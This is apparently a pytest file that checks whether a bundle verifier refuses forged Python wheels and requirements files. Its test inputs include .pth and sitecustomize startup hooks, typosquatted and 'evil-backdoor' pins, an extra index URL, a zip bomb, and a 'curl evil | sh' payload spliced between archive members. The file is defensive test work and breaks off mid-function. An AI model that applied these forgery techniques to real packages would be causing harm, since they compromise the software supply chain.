"""tools/ is judged member by member: what the launcher installs cannot carry other code.

An attacker holding the example key (it is public) rebuilds the wheel a bundle carries, with
its RECORD fixed, or rewrites requirements.txt, then seals the bundle again: the signature and
every digest hold, and `repro verify` must still refuse it, naming the member or the line.

The base is the committed Laguna record (imported evidence: it verifies offline in about a
second) carrying the tools of this checkout: its wheel built by `build_wheel` as `repro build`
builds it, labelled with the digest of the package's files, requirements.txt written for that
version, and the lock and README made for it. Every hostile case starts from a copy of it, so
each refusal is the edit's alone. A case that states another version in the lock has its
statement say that version too, as a forger's sealer would.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import hashlib
import io
import json
import re
import shutil
import warnings
import zipfile
from collections.abc import Callable, Iterator
from importlib import metadata
from pathlib import Path
from typing import Any

import bundle_assets
import pytest
from cases import by_name
from conftest import REPO_ROOT

from repro_serving.builder.build import staged_readme
from repro_serving.builder.cli import main
from repro_serving.builder.documents.python import normalize
from repro_serving.builder.documents.tools import ToolRequirements
from repro_serving.builder.handoff import tools
from repro_serving.builder.handoff.kernelsets import PACKAGED_KERNELS
from repro_serving.builder.observe.tools import build_wheel, dependency_closure, wheel_requires
from repro_serving.builder.own import release
from repro_serving.builder.own.stated import own_stated
from repro_serving.builder.sealing import bundle, statement
from repro_serving.builder.sealing.seal import seal

COMMITTED = REPO_ROOT / "repro"
PUBLIC = REPO_ROOT / "keys" / "example.pub"
LAGUNA, TINY = "laguna-102tps", "tiny-cpu"
MANIFESTS = {LAGUNA: "manifests/laguna-102tps.toml", TINY: "manifests/tiny-cpu.toml"}
REQUIREMENTS = f"{bundle.TOOLS_DIR}/{bundle.REQUIREMENTS_FILE}"

Entries = list[tuple[zipfile.ZipInfo, bytes]]


# --- what an attacker does: a wheel rebuilt with its RECORD fixed, the bundle sealed again -------


def wheel_of(root: Path) -> Path:
    (wheel,) = (root / bundle.TOOLS_DIR).glob("*.whl")
    return wheel


def dist_info(version: str) -> str:
    return f"repro_serving-{version}.dist-info"


def entry(name: str, mode: int = 0o100644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("placeholder", date_time=(1980, 1, 1, 0, 0, 0))
    info.filename = name  # after construction: ZipInfo would cut a name at its NUL
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def rewheel(root: Path, change: Callable[[Entries], Entries], *, name: str | None = None) -> None:
    """The wheel under `root/tools/` unpacked, changed, and packed again (as `name`, when
    given) with a RECORD that lists every other member with its sha256 and size."""
    wheel = wheel_of(root)
    with zipfile.ZipFile(wheel) as archive:
        record = next(n for n in archive.namelist() if n.endswith(".dist-info/RECORD"))
        entries = [(i, archive.read(i)) for i in archive.infolist() if i.filename != record]
    entries = change(entries)
    record = next(i.filename for i, _ in entries if i.filename.endswith(".dist-info/METADATA"))
    record = record.replace("/METADATA", "/RECORD")
    lines = io.StringIO()
    rows = csv.writer(lines, lineterminator="\n")
    for info, data in entries:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        if not info.filename.endswith("/"):
            rows.writerow((info.filename, f"sha256={digest}", len(data)))
    rows.writerow((record, "", ""))
    wheel.unlink()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name: the point of one
        with zipfile.ZipFile(wheel.with_name(name or wheel.name), "w") as archive:
            for info, data in [*entries, (entry(record), lines.getvalue().encode())]:
                archive.writestr(info, data)


def adding(name: str, data: bytes = b"import os\n", mode: int = 0o100644) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        rewheel(root, lambda entries: [*entries, (entry(name, mode), data)])

    return edit


def changing(member: str, change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        def changed(entries: Entries) -> Entries:
            names = [info.filename for info, _ in entries]
            assert any(n.endswith(member) for n in names), member
            return [(i, change(d) if i.filename.endswith(member) else d) for i, d in entries]

        rewheel(root, changed)

    return edit


def removing(member: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        rewheel(root, lambda entries: [(i, d) for i, d in entries if i.filename != member])

    return edit


def requirements_edit(change: Callable[[list[str]], list[str]]) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        path = root / REQUIREMENTS
        lines = path.read_text().splitlines()
        path.write_text("\n".join(change(lines)) + "\n")

    return edit


def pin_line(lines: list[str], name: str) -> int:
    """The index in `lines` of the pin of `name` (its line number is one more)."""
    return next(n for n, line in enumerate(lines) if line.startswith(f"{name}=="))


def relabel(root: Path, version: str) -> None:
    """Every place the bundle states repro's version states `version`: the wheel's name, its
    dist-info and METADATA, requirements.txt's header and the lock."""
    lock = json.loads((root / bundle.LOCK).read_text())
    old = lock["bundle"]["repro_version"]
    lock["bundle"]["repro_version"] = version
    (root / bundle.LOCK).write_text(json.dumps(lock))

    def renamed(entries: Entries) -> Entries:
        out = []
        for info, data in entries:
            name = info.filename.replace(dist_info(old), dist_info(version))
            if name.endswith("/METADATA"):
                stated = (f"\nVersion: {old}\n".encode(), f"\nVersion: {version}\n".encode())
                out.append((entry(name), data.replace(*stated)))
            else:
                out.append((entry(name), data))
        return out

    rewheel(root, renamed, name=bundle.wheel_filename(version))
    path = root / REQUIREMENTS
    pins = ToolRequirements.from_bytes(path.read_bytes(), where=REQUIREMENTS)
    path.write_bytes(pins.model_copy(update={"repro": version}).to_bytes())


def resealed(
    source: Path, parent: Path, edit: Callable[[Path], None], manifest_source: str
) -> Path:
    """`source` copied, edited and sealed again with the example key, its README made anew from
    the claims recomputed over the edited copy, its statement stating the lock's version."""
    staging = parent / "staging" / source.name
    staging.parent.mkdir(parents=True)
    shutil.copytree(source, staging)
    edit(staging)
    content = bundle_assets.staged_content(staging, manifest_source)
    assert content.handoff is not None
    content = dataclasses.replace(
        content, handoff=dataclasses.replace(content.handoff, readme=staged_readme)
    )
    version = json.loads((staging / bundle.LOCK).read_text())["bundle"]["repro_version"]
    saved = statement.repro_version
    statement.repro_version = lambda: version  # a forger's sealer states what it likes
    try:
        (parent / "out").mkdir()
        return seal(content, bundle_assets.example_key(), parent / "out").path
    finally:
        statement.repro_version = saved


def verified(path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    """`repro verify --json` in-process: its exit code and the claims that failed, by claim."""
    capsys.readouterr()
    code = main(["verify", str(path), "--key", str(PUBLIC), "--json"])
    document = json.loads(capsys.readouterr().out)
    assert document["drifts"] == [], "the signature and every digest hold"
    return code, {c["claim"]: c for c in document["claims"] if not c["ok"]}


def tools_claim(version: str) -> str:
    return f"tools/ = repro {version} and its dependencies pinned by sha256"


# --- the base: the Laguna record carrying this checkout's tools --------------------------------


@pytest.fixture(scope="module")
def version() -> str:
    return release.repro_version()


@pytest.fixture(scope="module")
def own_wheel(tmp_path_factory: pytest.TempPathFactory, version: str) -> Path:
    """The wheel `repro build` makes of this checkout."""
    return build_wheel(REPO_ROOT, tmp_path_factory.mktemp("wheel") / "out", version)


def carrying(own_wheel: Path) -> Callable[[Path], None]:
    """A bundle edited to carry `own_wheel` and be of its version."""

    def edit(root: Path) -> None:
        version = own_wheel.name.split("-")[1]
        old = wheel_of(root)
        lock = json.loads((root / bundle.LOCK).read_text())
        lock["bundle"]["repro_version"] = version
        (root / bundle.LOCK).write_text(json.dumps(lock))
        old.unlink()
        (root / bundle.TOOLS_DIR / own_wheel.name).write_bytes(own_wheel.read_bytes())
        path = root / REQUIREMENTS
        pins = ToolRequirements.from_bytes(path.read_bytes(), where=REQUIREMENTS)
        # the bundle's pins of what this checkout's wheel still needs, as its build would pin
        needed = dependency_closure(wheel_requires(own_wheel))
        kept = tuple(p for p in pins.pins if normalize(p.name) in needed)
        path.write_bytes(pins.model_copy(update={"repro": version, "pins": kept}).to_bytes())

    return edit


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory, own_wheel: Path) -> Path:
    root = tmp_path_factory.mktemp("base")
    return resealed(COMMITTED / LAGUNA, root, carrying(own_wheel), MANIFESTS[LAGUNA])


@pytest.fixture(scope="module")
def tiny_base(tmp_path_factory: pytest.TempPathFactory, own_wheel: Path) -> Path:
    """The committed tiny-cpu bundle (built: its lock pins wheels for the tools' interpreter)
    carrying this checkout's tools. Other claims of it may fail in a working tree whose evidence
    rules moved on; only its tools claim is judged here."""
    root = tmp_path_factory.mktemp("tiny")
    return resealed(COMMITTED / TINY, root, carrying(own_wheel), MANIFESTS[TINY])


KERNELS_CLAIM = "kernels/ = the kernel sets of tools/ (the repro that sealed it)"
"""Judged from the wheel too: it cannot be read from an archive that cannot be read."""
Refused = Callable[..., str]


@pytest.fixture
def refused(
    base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], version: str
) -> Iterator[Refused]:
    """The base edited and sealed again: verify exits 1 and the tools claim fails, no other
    but those named `also`; its detail."""

    def run(edit: Callable[[Path], None], also: tuple[str, ...] = ()) -> str:
        code, failed = verified(resealed(base, tmp_path, edit, MANIFESTS[LAGUNA]), capsys)
        assert code == 1
        assert tools_claim(version) in failed and set(failed) <= {tools_claim(version), *also}
        detail = failed[tools_claim(version)]["detail"]
        assert isinstance(detail, str)
        return detail

    yield run


# --- controls -------------------------------------------------------------------------------------


def test_the_base_carrying_this_checkouts_tools_verifies(
    base: Path, capsys: pytest.CaptureFixture[str], version: str
) -> None:
    """The wheel `repro build` makes of this checkout, compared member by member with this very
    checkout (the same version): every claim holds."""
    assert wheel_of(base).name == bundle.wheel_filename(version)
    assert release.parse_label(version) is not None
    code, failed = verified(base, capsys)
    assert (code, failed) == (0, {})


def test_the_committed_bundle_verifies(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    copy = tmp_path / LAGUNA
    shutil.copytree(COMMITTED / LAGUNA, copy)
    code, failed = verified(copy, capsys)
    assert (code, failed) == (0, {})


def test_a_bundle_of_another_labelled_tree_is_judged_by_its_members(
    base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], version: str
) -> None:
    """A repro of other files, labelled with their digest (a bundle sealed by another release):
    nothing to compare it with, every rule holds, it verifies."""

    def other_tree(root: Path) -> None:
        changing("repro_serving/builder/cli.py", lambda d: d + b"\n# another tree\n")(root)
        with zipfile.ZipFile(wheel_of(root)) as archive:
            files = {n: archive.read(n) for n in archive.namelist() if release.is_package_member(n)}
        relabel(root, release.labelled(version.partition("+")[0], release.files_digest(files)))

    code, failed = verified(resealed(base, tmp_path, other_tree, MANIFESTS[LAGUNA]), capsys)
    assert (code, failed) == (0, {})


# --- the version names the source -------------------------------------------------------------


def test_an_unlabelled_version_names_no_source(
    base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = resealed(base, tmp_path, lambda root: relabel(root, "0.1.0"), MANIFESTS[LAGUNA])
    code, failed = verified(path, capsys)
    assert code == 1 and list(failed) == [tools_claim("0.1.0")]
    detail = failed[tools_claim("0.1.0")]["detail"]
    assert "tools/repro_serving-0.1.0-py3-none-any.whl: repro 0.1.0 names no source" in detail


def test_a_label_that_is_not_the_digest_of_the_files_is_refused(
    base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], version: str
) -> None:
    forged = version.partition("+")[0] + "+g000000000000"
    path = resealed(base, tmp_path, lambda root: relabel(root, forged), MANIFESTS[LAGUNA])
    code, failed = verified(path, capsys)
    assert code == 1 and list(failed) == [tools_claim(forged)]
    detail = failed[tools_claim(forged)]["detail"]
    assert f"{bundle.wheel_filename(forged)}: repro_serving/: files that are not those" in detail
    assert "expected files digesting to g000000000000" in detail
    assert f"found files digesting to {version.split('+')[1]}" in detail


@pytest.mark.parametrize(
    ("edit", "member", "found"),
    [
        (changing("repro_serving/builder/cli.py", lambda d: d + b"\nimport os\n"),
         "repro_serving/builder/cli.py", "sha256"),
        (removing("repro_serving/builder/verify.py"), "repro_serving/builder/verify.py",
         "found no such member"),
    ],
    ids=["a module changed", "a module removed"],
)  # fmt: skip
def test_a_wheel_of_this_version_holds_the_files_this_repro_packs(
    refused: Refused,
    version: str,
    edit: Callable[[Path], None],
    member: str,
    found: str,
) -> None:
    detail = refused(edit)
    where = f"tools/{bundle.wheel_filename(version)}: {member}"
    assert detail.startswith(f"{where}: not the member this repro {version}, of the same version")
    assert found in detail


# --- members: names, kinds, places ------------------------------------------------------------

MEMBERS = {
    # code the interpreter runs at every start, or outside repro's package
    "a .pth file in the package": ("repro_serving/zz.pth", "a .pth file"),
    "a .pth file at the top": ("zz-startup.pth", "a .pth file"),
    "sitecustomize.py at the top": ("sitecustomize.py", "imports at every start"),
    "usercustomize.py in the package": ("repro_serving/usercustomize.py", "every start"),
    "an extra top-level package": ("evil/__init__.py", "an extra top-level package"),
    "an extra top-level module": ("evil.py", "an extra top-level module"),
    "a .data directory of scripts": ("repro_serving-{v}.data/scripts/repro", "a .data directory"),
    "a .data directory of purelib": ("repro_serving-{v}.data/purelib/evil.py", "a .data"),
    "bytecode beside a module": (
        "repro_serving/builder/__pycache__/cli.cpython-311.pyc", "bytecode",
    ),
    "an extension module shadowing one": ("repro_serving/builder/cli.abi3.so", "native code"),
    "another file in the dist-info": ("repro_serving-{v}.dist-info/direct_url.json", "dist-info"),
    "a module among the license files": (
        "repro_serving-{v}.dist-info/licenses/evil.py",
        "not a license file of repro (expected licenses/LICENSE alone under licenses/)",
    ),
    # names
    "a '..' part": ("repro_serving/../evil.py", "a '..' part"),
    "an absolute path": ("/tmp/evil.py", "an absolute path"),
    "a backslash": ("repro_serving\\evil.py", "a backslash"),
    "a NUL": ("repro_serving/evil.py\0.txt", "a control character U+0000"),
    "a name another member has": ("repro_serving/builder/cli.py", "held by another member"),
    "a name another member has, but for case": ("repro_serving/builder/CLI.py", "ignoring case"),
    "a directory entry hiding a file": ("repro_serving/builder/cli.py/", "a directory entry"),
    "a file below another file": ("repro_serving/builder/cli.py/x.py", "below the file"),
}  # fmt: skip


@pytest.mark.parametrize(("member", "reason"), by_name(MEMBERS))
def test_a_member_repro_never_packs_is_refused_by_name(
    refused: Refused, version: str, member: str, reason: str
) -> None:
    name = member.format(v=version)
    detail = refused(adding(name))
    assert f"tools/{bundle.wheel_filename(version)}: {name!r}: " in detail
    assert reason in detail.split(f"{name!r}: ", 1)[1].split(";")[0]


def test_a_symlink_is_refused_by_name(refused: Refused, version: str) -> None:
    detail = refused(adding("repro_serving/link.py", b"/etc/passwd", mode=0o120777))
    assert f"{bundle.wheel_filename(version)}: 'repro_serving/link.py': a symlink" in detail


# --- what the dist-info says ------------------------------------------------------------------

ENTRY_POINTS = "[console_scripts]\nrepro = repro_serving.builder.cli:main\n"
DIST_INFO = {
    "another console script": (
        "entry_points.txt", ENTRY_POINTS + "pip = repro_serving.builder.cli:main\n",
        "other entry points",
    ),
    "another group": ("entry_points.txt", ENTRY_POINTS + "[gui_scripts]\nx = evil:main\n", "gui"),
    "repro pointed elsewhere": (
        "entry_points.txt", "[console_scripts]\nrepro = evil:main\n", "repro = evil:main",
    ),
    "entry points that do not parse": ("entry_points.txt", "[console_scripts\n", "unreadable"),
    "not purelib": ("WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: py3-none-any\n",
                    "Root-Is-Purelib: false"),
    "a platform tag": ("WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"
                       "Tag: cp311-cp311-linux_x86_64\n", "Tag: cp311-cp311-linux_x86_64"),
    "another top level": ("top_level.txt", "repro_serving\nevil\n", "other top-level names"),
}  # fmt: skip


@pytest.mark.parametrize(("member", "text", "found"), by_name(DIST_INFO))
def test_a_dist_info_other_than_repros_is_refused_by_name(
    refused: Refused, version: str, member: str, text: str, found: str
) -> None:
    detail = refused(changing(f".dist-info/{member}", lambda _: text.encode()))
    assert f"{bundle.wheel_filename(version)}: {dist_info(version)}/{member}: " in detail
    assert found in detail


def _metadata_edit(old: str, new: str) -> Callable[[Path], None]:
    """METADATA with `old` (a line of its headers, once) written as `new`."""

    def change(data: bytes) -> bytes:
        text = data.decode()
        head, _, body = text.partition("\n\n")
        assert head.count(old) == 1, old
        return f"{head.replace(old, new)}\n\n{body}".encode()

    return changing(".dist-info/METADATA", change)


METADATA = {
    "two names": (
        "Name: repro-serving\n", "Name: repro-serving\nName: evil\n",
        "Name stated 2 times (expected once: of several, one reader takes the first, another "
        "the last; found repro-serving / evil)",
    ),
    "two versions": ("Requires-Python:", "Version: 9.9.9\nRequires-Python:", "Version stated 2"),
    "two Requires-Python": (
        "Requires-Python: >=3.11\n", "Requires-Python: >=3.11\nRequires-Python: >=3.0\n",
        "Requires-Python stated 2 times",
    ),
    "no Metadata-Version": ("Metadata-Version: 2.4\n", "", "Metadata-Version stated 0 times"),
    "a line that ends the headers early": (
        "Requires-Python:", "an evil line\nRequires-Python:", "headers that do not parse",
    ),
    "another Requires-Python": (
        "Requires-Python: >=3.11\n", "Requires-Python: >=3.0\n",
        "Requires-Python: >=3.0 is not this repro's (expected Requires-Python: >=3.11",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("old", "new", "found"), by_name(METADATA))
def test_metadata_states_each_single_field_once(
    refused: Refused, version: str, old: str, new: str, found: str
) -> None:
    detail = refused(_metadata_edit(old, new))
    assert f"{bundle.wheel_filename(version)}: {dist_info(version)}/METADATA: {found}" in detail


# --- what the wheel requires: only what this repro requires --------------------------------------

SHA_E = "e" * 64


def both(*edits: Callable[[Path], None]) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        for one in edits:
            one(root)

    return edit


def test_this_repro_states_what_its_wheel_requires(own_wheel: Path) -> None:
    """What the verifier holds a wheel to is what `build_wheel` writes into this checkout's."""
    stated = own_stated()
    assert stated.requires_dist == wheel_requires(own_wheel)
    with zipfile.ZipFile(own_wheel) as archive:
        names = archive.namelist()
    licenses = [name.split("/licenses/", 1)[1] for name in names if "/licenses/" in name]
    assert licenses == list(stated.license_files)


def test_a_requirement_this_repro_does_not_have_is_refused(refused: Refused, version: str) -> None:
    """METADATA gains a requirement and requirements.txt pins it: the launcher would install a
    package repro never required."""
    detail = refused(
        both(
            _metadata_edit(
                "Requires-Dist: matplotlib>=3.10\n",
                "Requires-Dist: matplotlib>=3.10\nRequires-Dist: evilpkg>=1\n",
            ),
            requirements_edit(
                lambda lines: _inserted(lines, f"evilpkg==1.0.0 --hash=sha256:{SHA_E}")
            ),
        )
    )
    where = f"{bundle.wheel_filename(version)}: {dist_info(version)}/METADATA"
    assert (
        f"{where}: Requires-Dist: evilpkg>=1 is not a requirement of this repro {version} "
        "(expected only this repro's requirements: this repro requires no evilpkg; found "
        "evilpkg>=1): this repro, of the same version, requires otherwise"
    ) in detail, detail
    assert "evilpkg is pinned but required by nothing repro needs" in detail


def test_a_typosquatted_requirement_is_refused(refused: Refused, version: str) -> None:
    def squatted(lines: list[str]) -> list[str]:
        return _swap(
            lines, "pyelftools", lines[pin_line(lines, "pyelftools")].replace("ls=", "lz=")
        )

    detail = refused(
        both(
            _metadata_edit("Requires-Dist: pyelftools>=", "Requires-Dist: pyelftoolz>="),
            requirements_edit(squatted),
        )
    )
    assert (
        "METADATA: Requires-Dist: pyelftoolz>=0.31 is not a requirement of this repro "
        f"{version} (expected only this repro's requirements: this repro requires no pyelftoolz"
    ) in detail, detail
    assert "pyelftoolz is pinned but required by nothing repro needs" in detail


def test_a_loosened_requirement_admits_no_older_version(
    refused: Refused, base: Path, version: str
) -> None:
    """`cryptography>=42` loosened to `>=0` and pinned at an old version by a hash of the
    forger's (the lock pins no such wheel): the METADATA line is refused, and the pin by this
    repro's specifier."""
    old = f"cryptography==3.2 --hash=sha256:{SHA_E}"
    detail = refused(
        both(
            _metadata_edit("Requires-Dist: cryptography>=42", "Requires-Dist: cryptography>=0"),
            requirements_edit(lambda lines: _swap(lines, "cryptography", old)),
        )
    )
    assert (
        "METADATA: Requires-Dist: cryptography>=0 is not a requirement of this repro "
        f"{version} (expected only this repro's requirements: this repro requires "
        "cryptography>=42 instead; found cryptography>=0)"
    ) in detail, detail
    line = pin_line((base / REQUIREMENTS).read_text().splitlines(), "cryptography") + 1
    assert (
        f"{REQUIREMENTS}:{line}: cryptography==3.2 is not what repro requires (expected "
        "cryptography>=42; found 3.2)"
    ) in detail


def test_another_versions_requirements_name_the_repro_to_verify_with(
    base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], version: str
) -> None:
    """A repro of another labelled tree that requires what this one does not (as the committed
    tiny-cpu bundles' repro requires prometheus_client): this repro cannot judge what that one
    would install, refuses it, and says which repro can."""
    other: list[str] = []

    def other_tree(root: Path) -> None:
        _metadata_edit(
            "Requires-Dist: matplotlib>=3.10\n",
            "Requires-Dist: matplotlib>=3.10\nRequires-Dist: prometheus_client>=0.20\n",
        )(root)
        changing("repro_serving/builder/cli.py", lambda d: d + b"\n# another tree\n")(root)
        with zipfile.ZipFile(wheel_of(root)) as archive:
            files = {n: archive.read(n) for n in archive.namelist() if release.is_package_member(n)}
        other.append(release.labelled(version.partition("+")[0], release.files_digest(files)))
        relabel(root, other[0])
        pin = f"prometheus_client==0.20.0 --hash=sha256:{SHA_E}"
        requirements_edit(lambda lines: _inserted(lines, pin))(root)

    code, failed = verified(resealed(base, tmp_path, other_tree, MANIFESTS[LAGUNA]), capsys)
    assert code == 1 and list(failed) == [tools_claim(other[0])]
    detail = failed[tools_claim(other[0])]["detail"]
    assert (
        "METADATA: Requires-Dist: prometheus_client>=0.20 is not a requirement of this repro "
        f"{version} (expected only this repro's requirements: this repro requires "
        'prometheus_client>=0.20; extra == "dev" instead; found prometheus_client>=0.20): a '
        f"repro of another version may require otherwise, which this repro {version} cannot "
        f"judge: verify with repro {other[0]}"
    ) in detail, detail


def test_a_pin_is_a_version_what_pulls_it_in_admits(refused: Refused, base: Path) -> None:
    """pydantic, pinned at the version installed here, requires `annotated-types>=0.6.0`: a pin
    of an older one is refused, naming the requirement."""
    lines = (base / REQUIREMENTS).read_text().splitlines()
    pydantic = lines[pin_line(lines, "pydantic")].split(" ")[0]
    if pydantic != f"pydantic=={metadata.version('pydantic')}":
        pytest.skip(f"{pydantic} is not the pydantic installed here")
    old = f"annotated-types==0.1.0 --hash=sha256:{SHA}"
    detail = refused(requirements_edit(lambda lines: _swap(lines, "annotated-types", old)))
    line = pin_line(lines, "annotated-types") + 1
    assert (
        f"{REQUIREMENTS}:{line}: annotated-types==0.1.0 is not what {pydantic} requires "
        "(annotated-types>=0.6.0)"
    ) in detail, detail


def test_a_dependency_not_installed_here_is_refused_not_let_through(
    base: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, version: str
) -> None:
    """What a dependency requires is read from it installed beside this repro: where it is not,
    the closure is unknown and the tools are refused, naming it (they were accepted)."""
    installed = tools.installed_here()
    kept = {name: found for name, found in installed.items() if name != "pydantic-core"}
    monkeypatch.setattr(tools, "installed_here", lambda: kept)
    code, failed = verified(base, capsys)
    assert code == 1 and list(failed) == [tools_claim(version)]
    detail = failed[tools_claim(version)]["detail"]
    assert "pydantic-core, which pydantic requires (pydantic-core==" in detail, detail
    assert "is not installed beside this repro" in detail


# --- requirements.txt -------------------------------------------------------------------------


def _swap(lines: list[str], name: str, new: str) -> list[str]:
    at = pin_line(lines, name)
    return [*lines[:at], new, *lines[at + 1 :]]


def _inserted(lines: list[str], new: str) -> list[str]:
    """`new` among the pins, sorted by normalised name as repro writes them."""

    def key(line: str) -> str:
        return re.sub(r"[-_.]+", "-", line.partition("==")[0]).lower()

    return [*lines[:4], *sorted([*lines[4:], new], key=key)]


def _pin(name: str) -> Callable[[list[str]], int]:
    return lambda lines: pin_line(lines, name) + 1


SHA = "0" * 64
REQUIREMENT_CASES = {
    "another platform": (
        lambda lines: [*lines[:3], "# platform: linux-aarch64", *lines[4:]],
        lambda lines: 4,
        "another platform (expected linux-x86_64, the lock's host; found linux-aarch64)",
    ),
    "a python the wheel refuses": (
        lambda lines: [*lines[:2], "# python: 3.10", *lines[3:]], lambda lines: 3, "another python",
    ),
    "a version the wheel refuses": (
        lambda lines: _swap(lines, "pydantic", f"pydantic==1.10.0 --hash=sha256:{SHA}"),
        _pin("pydantic"), "expected pydantic>=2.7",
    ),
    "repro itself pinned": (
        lambda lines: _inserted(lines, f"repro-serving==0.1.0 --hash=sha256:{SHA}"),
        _pin("repro-serving"), "repro itself pinned",
    ),
    "a pin nothing repro needs requires": (
        lambda lines: _inserted(lines, f"evil-backdoor==6.6.6 --hash=sha256:{SHA}"),
        _pin("evil-backdoor"), "evil-backdoor is pinned but required by nothing repro needs",
    ),
    "an index option": (
        lambda lines: [*lines, "--extra-index-url https://evil.example/simple"],
        len, "is not a pin",
    ),
    "a pin without its hash": (
        lambda lines: _swap(lines, "pydantic", lines[pin_line(lines, "pydantic")].split(" ")[0]),
        _pin("pydantic"), "is not a pin",
    ),
    "a pin with a marker": (
        lambda lines: _swap(
            lines, "pydantic", lines[pin_line(lines, "pydantic")] + ' ; sys_platform == "win32"'
        ),
        _pin("pydantic"), "is not a pin",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("change", "line_of", "found"), by_name(REQUIREMENT_CASES))
def test_requirements_other_than_the_wheel_and_the_lock_require_are_refused_by_line(
    refused: Refused,
    base: Path,
    change: Callable[[list[str]], list[str]],
    line_of: Callable[[list[str]], int],
    found: str,
) -> None:
    lines = change((base / REQUIREMENTS).read_text().splitlines())
    detail = refused(requirements_edit(change))
    assert f"{REQUIREMENTS}:{line_of(lines)}: " in detail, detail
    assert found in detail


def test_a_dependency_left_unpinned_is_named(
    refused: Refused,
) -> None:
    detail = refused(
        requirements_edit(lambda lines: [x for x in lines if not x.startswith("pydantic==")])
    )
    assert (
        f"{REQUIREMENTS}: pydantic, which repro requires (pydantic>=2.7), is not pinned" in detail
    )


def test_a_built_bundles_pins_are_the_lock_wheels_for_its_interpreter(
    tiny_base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], version: str
) -> None:
    """tiny-cpu's lock pins the serving venv's wheels for the interpreter its tools are pinned
    for: a pin of the same distribution and version is that very wheel."""
    _, failed = verified(tiny_base, capsys)
    assert tools_claim(version) not in failed, "the base's tools hold"
    lines = (tiny_base / REQUIREMENTS).read_text().splitlines()
    at = pin_line(lines, "pydantic")
    pinned = lines[at].split(" ")[0]
    forged = requirements_edit(
        lambda lines: _swap(lines, "pydantic", f"{pinned} --hash=sha256:{SHA}")
    )
    code, failed = verified(resealed(tiny_base, tmp_path, forged, MANIFESTS[TINY]), capsys)
    assert code == 1
    detail = failed[tools_claim(version)]["detail"]
    assert f"{REQUIREMENTS}:{at + 1}: {pinned}: another wheel than the lock's" in detail
    assert f"found sha256:{SHA}" in detail


def test_a_built_bundles_tools_are_for_the_lock_interpreter(
    tiny_base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], version: str
) -> None:
    other = requirements_edit(lambda lines: [*lines[:2], "# python: 3.12", *lines[3:]])
    code, failed = verified(resealed(tiny_base, tmp_path, other, MANIFESTS[TINY]), capsys)
    assert code == 1
    detail = failed[tools_claim(version)]["detail"]
    assert f"{REQUIREMENTS}:3: another python (expected 3.11, of the lock's Python 3.11.7" in detail


# --- hostile archives: a refusal, never a traceback ---------------------------------------------


def _whole(data: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        wheel = wheel_of(root)
        wheel.write_bytes(data(wheel.read_bytes()))

    return edit


def _bomb(root: Path) -> None:
    rewheel(root, lambda entries: [*entries, (entry("repro_serving/zeros.txt"), bytes(65 << 20))])


def _lying_size(root: Path) -> None:
    adding("repro_serving/zeros.txt", bytes(1 << 20))(root)
    wheel = wheel_of(root)
    data = bytearray(wheel.read_bytes())
    # the last time the name is written is in the central directory, 46 bytes into its entry
    at = data.rindex(b"repro_serving/zeros.txt") - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")  # its uncompressed size, told small
    wheel.write_bytes(bytes(data))


def _unknown_method(root: Path) -> None:
    """The kernel set a Laguna bundle judges by, told compressed by a method zipfile lacks."""
    wheel = wheel_of(root)
    data = bytearray(wheel.read_bytes())
    member = next(
        f"{place}/xpu.toml".encode()
        for place in PACKAGED_KERNELS
        if f"{place}/xpu.toml".encode() in data
    )
    at = data.rindex(member) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    data[at + 10 : at + 12] = (99).to_bytes(2, "little")  # its compression method
    wheel.write_bytes(bytes(data))


def _many(root: Path) -> None:
    rewheel(root, lambda entries: [
        *entries, *((entry(f"repro_serving/x/{n}.txt"), b"") for n in range(10_001))
    ])  # fmt: skip


def _hidden_between(data: bytes) -> bytes:
    """A payload laid between the first two members, every later offset the central directory
    and its end record state moved past it: zipfile and pip read the archive as before."""
    hidden = b"#!/bin/sh\ncurl evil | sh\n"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        at = sorted(i.header_offset for i in archive.infolist())[1]
    out = bytearray(data[:at] + hidden + data[at:])
    end = len(out) - 22
    assert out[end : end + 4] == b"PK\x05\x06"
    directory = int.from_bytes(out[end + 16 : end + 20], "little") + len(hidden)
    out[end + 16 : end + 20] = directory.to_bytes(4, "little")
    while out[directory : directory + 4] == b"PK\x01\x02":
        offset = int.from_bytes(out[directory + 42 : directory + 46], "little")
        if offset >= at:
            out[directory + 42 : directory + 46] = (offset + len(hidden)).to_bytes(4, "little")
        lengths = [
            int.from_bytes(out[directory + n : directory + n + 2], "little") for n in (28, 30, 32)
        ]
        directory += 46 + sum(lengths)
    return bytes(out)


def _extra_field(data: bytes) -> bytes:
    """One member written with an extra field of bytes nothing reads."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as archive:
        for number, info in enumerate(source.infolist()):
            if number == 1:
